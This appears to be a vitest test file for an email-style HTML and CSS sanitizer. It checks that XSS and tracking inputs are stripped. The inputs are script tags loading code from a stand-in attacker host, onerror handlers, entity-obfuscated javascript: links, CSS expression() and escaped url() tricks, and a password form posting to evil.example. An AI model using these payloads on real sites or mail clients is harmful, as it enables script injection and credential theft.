import { describe, expect, it } from 'vitest';

import { sanitizeCss, sanitizeHtml } from './html-sanitizer';

describe('sanitizeHtml', () => {
  it.each([
    ['a script element with its content', '<p>Hi</p><script>alert(1)</script>', '<p>Hi</p>'],
    ['an uppercase script with a src', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>ok', 'ok'],
    ['an event handler', '<p onclick="steal()">Hi</p>', '<p>Hi</p>'],
    ['an event handler on an image', '<img src="cid:logo@x" onerror="steal()">', '<img src="cid:logo@x">'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['a javascript: link hidden by entities', '<a href="jav&#x61;script:alert(1)">x</a>', '<a>x</a>'],
    [
      'an http link (kept, opened without referrer)',
      '<a href="https://example.com/a?b=1&amp;c=2">x</a>',
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    [
      'a remote image (tracking pixel) replaced by its alt text',
      '<img src="https://t.example/p.gif" alt="logo">',
      'logo',
    ],
    ['a protocol-relative remote image', '<img src="//t.example/p.gif">', ''],
    [
      'an inline image by content id',
      '<img src="cid:part1.abc@example.com" alt="chart" width="10">',
      '<img src="cid:part1.abc@example.com" alt="chart" width="10">',
    ],
    [
      'a data: image',
      '<img src="data:image/png;base64,iVBORw0KGgo=">',
      '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ],
    ['a data: URI that is not an image', '<img src="data:text/html;base64,PHNjcmlwdD4=">', ''],
    [
      'a remote background attribute',
      '<table background="http://t.example/bg.png"><tr><td>x</td></tr></table>',
      '<table><tr><td>x</td></tr></table>',
    ],
    ['a cid: background attribute', '<td background="cid:bg@x">x</td>', '<td background="cid:bg@x">x</td>'],
    [
      'a remote CSS url() in a style attribute',
      '<div style="color:red;background:url(http://t.example/a.png)">x</div>',
      '<div style="color:red;background:none">x</div>',
    ],
    [
      'a CSS url() hidden by a CSS escape',
      '<div style="background:\\75rl(http://t.example/a.png)">x</div>',
      '<div style="background:none">x</div>',
    ],
    ['an iframe', '<iframe src="https://evil.example"></iframe>after', 'after'],
    ['an object/embed', '<object data="x.swf"><embed src="x.swf"></object>after', 'after'],
    [
      'a form with inputs',
      '<form action="https://evil.example"><input name="pw"><button>Go</button></form>after',
      'after',
    ],
    [
      'a meta refresh and a base',
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">x',
      'x',
    ],
    ['a stylesheet link', '<link rel="stylesheet" href="https://t.example/a.css">x', 'x'],
    ['an IE conditional comment', '<!--[if IE]><script>x()</script><![endif]-->x', 'x'],
    ['an SVG with script', '<svg><script>x()</script><circle onload="x()"/></svg>x', 'x'],
    ['unknown tags: dropped, their text kept', '<o:p>Hello</o:p><blink>world</blink>', 'Helloworld'],
    [
      'text that looks like markup stays text',
      '<p>1 &lt; 2 &amp; 3 &gt; 2</p>',
      '<p>1 &lt; 2 &amp; 3 &gt; 2</p>',
    ],
    ['an attribute value with a quote', '<p title="a&quot;b">x</p>', '<p title="a&quot;b">x</p>'],
    [
      'html/head/body wrappers',
      '<html><head><title>T</title></head><body><p>x</p></body></html>',
      '<p>x</p>',
    ],
  ])('removes or keeps %s', (_situation, input, expected) => {
    expect(sanitizeHtml(input)).toBe(expected);
  });

  it('keeps a style element without remote loads or a way out of it', () => {
    const output = sanitizeHtml(
      '<style>@import url(https://t.example/a.css); p > b { color: red; background: url("https://t.example/b.png") } </style><p>x</p>',
    );
    expect(output).toBe('<style> p > b { color: red; background: none } </style><p>x</p>');
  });
});

describe('sanitizeCss', () => {
  it.each([
    ['expression()', 'width: expression(alert(1))', 'width: (alert(1))'],
    ['behavior', 'behavior: url(x.htc); color: red', '; color: red'],
    ['-moz-binding', '-moz-binding: url(x.xml#y)', ''],
    ['a cid: url kept', 'background: url(cid:bg@x)', 'background: url(cid:bg@x)'],
    ['a comment hiding a url(', 'background: u/**/rl(http://t.example/a.png)', 'background: none'],
  ])('neutralises %s', (_situation, input, expected) => {
    expect(sanitizeCss(input)).toBe(expected);
  });
});
